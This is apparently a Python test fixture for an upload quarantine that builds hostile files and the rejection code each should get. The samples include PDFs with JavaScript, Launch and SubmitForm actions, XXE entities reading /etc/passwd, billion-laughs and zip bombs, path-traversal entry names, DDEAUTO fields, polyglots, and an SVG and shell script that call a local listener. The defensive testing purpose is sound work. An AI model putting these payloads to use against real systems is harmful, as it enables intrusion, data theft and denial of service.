"""Files that are made to harm, or that cannot be taken for another reason; each with the answer it must get.

(name as it is sent, how the bytes are made, code of the reason). Some are refused by the first look already, at the door;
the others are opened in quarantine.
"""

from __future__ import annotations

import io
import socket
import struct
import zipfile
import zlib
from collections.abc import Callable

from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, NumberObject, TextStringObject

from tests.quarantine.honest import changed, docx_file, odt, pdf, pdf_writer, picture, saved, xlsx, zipped

LISTENER = socket.create_server(("127.0.0.1", 0))  # hostile files point to it; nothing may come
LISTENER.setblocking(False)
ELSEWHERE = f"http://127.0.0.1:{LISTENER.getsockname()[1]}/"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _pdf_with(**entries: object) -> bytes:
    writer = pdf_writer()
    for key, value in entries.items():
        writer.root_object[NameObject(f"/{key}")] = value
    return saved(writer)


def _action(kind: str, **more: object) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    action.update({NameObject(f"/{key}"): value for key, value in more.items()})
    return action


def pdf_with_script_behind_escaped_name() -> bytes:
    written = _pdf_with(OpenAction=_action("/Launch", F=TextStringObject("x")))
    return written.replace(b"/Launch", b"/#4Caunch")


def pdf_encrypted() -> bytes:
    writer = pdf_writer()
    writer.encrypt("geheim", algorithm="AES-256")
    return saved(writer)


def pdf_with_file() -> bytes:
    writer = pdf_writer()
    writer.add_attachment("programm.exe", b"MZ")
    return saved(writer)


def pdf_of_thousands_of_pages() -> bytes:
    writer = PdfWriter()
    for _ in range(2_100):
        writer.add_blank_page(10, 10)
    return saved(writer)


def pdf_whose_pages_never_end() -> bytes:
    writer = pdf_writer()
    tree = writer.root_object["/Pages"]
    tree[NameObject("/Kids")].append(writer.root_object.raw_get("/Pages"))
    tree[NameObject("/Count")] = NumberObject(2_000_000_000)
    return saved(writer)


def pdf_bomb() -> bytes:
    """A page whose content unpacks to more than any page has, packed twice."""
    once = zlib.compress(bytes(100_000_000), 9)
    twice = zlib.compress(once, 9)
    head = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>" % len(twice)
    return _bare_pdf(head + b"\nstream\n" + twice + b"\nendstream")


def pdf_without_end() -> bytes:
    return pdf()[:400]


def _bare_pdf(content: bytes) -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
        content,
    ]
    written, places = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer << /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % len(written)
    return written + b"xref\n0 5\n0000000000 65535 f \n" + table + end


def _document(body: str, before: str = "") -> bytes:
    return changed(
        docx_file(),
        word__document_dot_xml=f'{before}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'.encode(),
    )


def _relation(sort: str, target: str = ELSEWHERE, part: str = "document") -> bytes:
    written = (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="rId99" Type="{OFFICE}/{sort}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )
    return changed(docx_file(), **{f"word___rels__{part}_dot_xml_dot_rels": written.encode()})


def docx_with_foreign_entity() -> bytes:
    entity = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{ELSEWHERE}"><!ENTITY y SYSTEM "file:///etc/passwd">]>'
    return _document("<w:p><w:r><w:t>&x;&y;</w:t></w:r></w:p>", entity)


def docx_with_a_billion_laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return _document("<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", f'<!DOCTYPE d [<!ENTITY l0 "ha">{entities}]>')


def docx_with_entities_in_utf16() -> bytes:
    text = f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x SYSTEM "{ELSEWHERE}">]><d>&x;</d>'
    return changed(docx_file(), docProps__core_dot_xml=text.encode("utf-16"))


def docx_bomb() -> bytes:
    return changed(docx_file(), word__media__image1_dot_png=bytes(5_000_000))


def docx_bomb_that_lies() -> bytes:
    """Its directory claims one byte."""
    packed = bytearray(changed(docx_file(), word__document_dot_xml=b"<a>" + b" " * 2_000_000 + b"</a>"))
    at = packed.rfind(b"word/document.xml") - 46
    packed[at + 24 : at + 28] = struct.pack("<I", 1)
    return bytes(packed)


def docx_of_many_entries() -> bytes:
    return zipped({f"word/{number}.xml": b"" for number in range(4_000)})


def docx_protected_by_password() -> bytes:
    """As Office writes it: an old container around the packed document."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600)


def docx_with_encrypted_entry() -> bytes:
    packed = bytearray(docx_file())
    at = packed.rfind(b"word/document.xml") - 46
    packed[at + 8] |= 1
    return bytes(packed)


def picture_of_a_flood(width: int = 60_000, height: int = 60_000) -> bytes:
    """A PNG of a few kilobytes that claims 3.6 billion pixels."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(100_000))) + chunk(b"IEND", b"")


def both(first: bytes, second: bytes) -> bytes:
    """Two files in one; the second one's directory fits its place, as in a program that unpacks itself."""
    target = io.BytesIO(first)
    target.seek(0, 2)
    with zipfile.ZipFile(io.BytesIO(second)) as source, zipfile.ZipFile(target, "a") as packed:
        for name in source.namelist():
            packed.writestr(name, source.read(name))
    return target.getvalue()


def pdf_and_page() -> bytes:
    return b"<html><script>alert(1)</script><!--" + pdf() + b"-->"


JAR = {"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe"}
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("' + ELSEWHERE.encode() + b'")</script></svg>'

HOSTILE: list[tuple[str, Callable[[], bytes], str]] = [
    # PDF
    ("script.pdf", lambda: _pdf_with(OpenAction=_action("/JavaScript", JS=TextStringObject("app.alert(1)"))), "script"),
    ("start.pdf", lambda: _pdf_with(OpenAction=_action("/Launch", F=TextStringObject("cmd.exe"))), "action"),
    ("versteckt.pdf", pdf_with_script_behind_escaped_name, "action"),
    ("sendet.pdf", lambda: _pdf_with(OpenAction=_action("/SubmitForm", F=TextStringObject(ELSEWHERE))), "action"),
    (
        "formular.pdf",
        lambda: _pdf_with(AcroForm=DictionaryObject({NameObject("/XFA"): TextStringObject("x")})),
        "script",
    ),
    ("kennwort.pdf", pdf_encrypted, "encrypted"),
    ("anlage.pdf", pdf_with_file, "embedded"),
    ("viele seiten.pdf", pdf_of_thousands_of_pages, "too_many_pages"),
    ("ohne ende.pdf", pdf_whose_pages_never_end, "damaged"),
    ("abgeschnitten.pdf", pdf_without_end, "damaged"),
    ("nichts.pdf", lambda: b"%PDF-1.7\n" + b"nichts" * 50, "damaged"),
    ("pdf und jar.pdf", lambda: both(pdf(), zipped(JAR)), "two_in_one"),
    ("seite.pdf", lambda: b"<!DOCTYPE html><html><script>alert(1)</script></html>", "web_page"),
    ("seite und pdf.pdf", pdf_and_page, "web_page"),
    # Office
    ("makro.docx", lambda: changed(docx_file(), word__vbaProject_dot_bin=b"x"), "macros"),
    ("makro.docm", docx_file, "macros"),
    ("entity.docx", docx_with_foreign_entity, "entities"),
    ("lacht.docx", docx_with_a_billion_laughs, "entities"),
    ("breit.docx", docx_with_entities_in_utf16, "entities"),
    ("bombe.docx", docx_bomb, "bomb"),
    ("bombe lügt.docx", docx_bomb_that_lies, "damaged"),
    ("viele teile.docx", docx_of_many_entries, "bomb"),
    ("zip in zip.docx", lambda: changed(docx_file(), word__embeddings__a_dot_zip=zipped(JAR)), "embedded"),
    ("steigt auf.docx", lambda: changed(docx_file(), **{"..__..__etc__passwd": b"x"}), "paths"),
    ("von oben.docx", lambda: changed(docx_file(), __etc__passwd=b"x"), "paths"),
    ("laufwerk.docx", lambda: changed(docx_file(), **{"C:\\Windows\\a_dot_ini": b"x"}), "paths"),
    ("vorlage.docx", lambda: _relation("attachedTemplate", part="settings"), "from_outside"),
    ("bild von fern.docx", lambda: _relation("image"), "from_outside"),
    ("ole.docx", lambda: changed(docx_file(), word__embeddings__oleObject1_dot_bin=OLE), "embedded"),
    ("dde.docx", lambda: _document("<w:p><w:r><w:instrText> DDEAUTO cmd </w:instrText></w:r></w:p>"), "from_outside"),
    ("kennwort.docx", docx_protected_by_password, "old_office"),
    ("verschlüsselt.docx", docx_with_encrypted_entry, "encrypted"),
    ("alt.doc", lambda: OLE, "old_office"),
    ("keine mail.msg", lambda: OLE, "old_office"),
    ("tabelle.docx", xlsx, "mislabelled"),
    ("jar.docx", lambda: zipped(JAR), "embedded"),
    ("irgendwas.docx", lambda: zipped({"a.txt": b"x"}), "archive"),
    ("zwei.docx", lambda: both(b"PK\x03\x04" + b"x" * 40, docx_file()), "two_in_one"),
    ("makro.odt", lambda: odt(**{"Basic/Standard/Module1.xml": b"<a/>"}), "macros"),
    ("kennwort.odt", lambda: odt(**{"META-INF/manifest.xml": b"<m><encryption-data/></m>"}), "encrypted"),
    # Pictures
    ("flut.png", picture_of_a_flood, "too_many_pixels"),
    ("halb.jpg", lambda: picture(size=(900, 900))[:3_000], "damaged"),
    ("leer.png", lambda: b"\x89PNG\r\n\x1a\n" + b"x" * 50, "damaged"),
    ("bild und jar.jpg", lambda: both(picture(), zipped(JAR)), "two_in_one"),
    ("gif und jar.gif", lambda: both(b"GIF89a" + b"x" * 40, zipped(JAR)), "gif"),
    ("zeichnung.svg", lambda: SVG, "svg"),
    ("zeichnung.png", lambda: SVG, "svg"),
    ("bild.pdf", picture, "mislabelled"),
    ("foto.heic", lambda: b"\x00\x00\x00\x18ftypheic" + b"x" * 50, "heic"),
    # The rest
    ("leer.pdf", lambda: b"", "empty"),
    ("programm.pdf", lambda: b"MZ\x90" + bytes(300), "program"),
    ("skript.txt", lambda: b"#!/bin/sh\ncurl " + ELSEWHERE.encode(), "program"),
    ("archiv.zip", lambda: zipped({"a.txt": b"x"}), "archive"),
    ("seite.txt", lambda: b"Guten Tag " * 900 + b"<script>alert(1)</script>", "web_page"),
    ("zeichen.txt", lambda: b"Guten Tag " * 900 + b"\x00\x01", "unknown"),
]


def opens_without_password(data: bytes) -> bool:
    """Whether a PDF that was made here is really closed."""
    return bool(PdfReader(io.BytesIO(data)).decrypt(""))
